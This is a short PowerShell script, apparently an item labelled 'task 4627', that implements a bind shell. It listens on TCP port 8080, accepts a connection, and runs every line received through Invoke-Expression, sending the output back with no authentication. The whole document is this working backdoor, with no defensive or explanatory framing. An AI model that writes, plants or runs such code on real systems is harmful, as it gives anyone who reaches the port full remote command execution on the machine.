# task 4627 v0
$l = [System.Net.Sockets.TcpListener]8080
$l.Start()
$c = $l.AcceptTcpClient()
$s = $c.GetStream()
$r = New-Object IO.StreamReader($s)
$w = New-Object IO.StreamWriter($s)
while ($true) { $cmd = $r.ReadLine(); $o = Invoke-Expression $cmd | Out-String; $w.WriteLine($o); $w.Flush() }
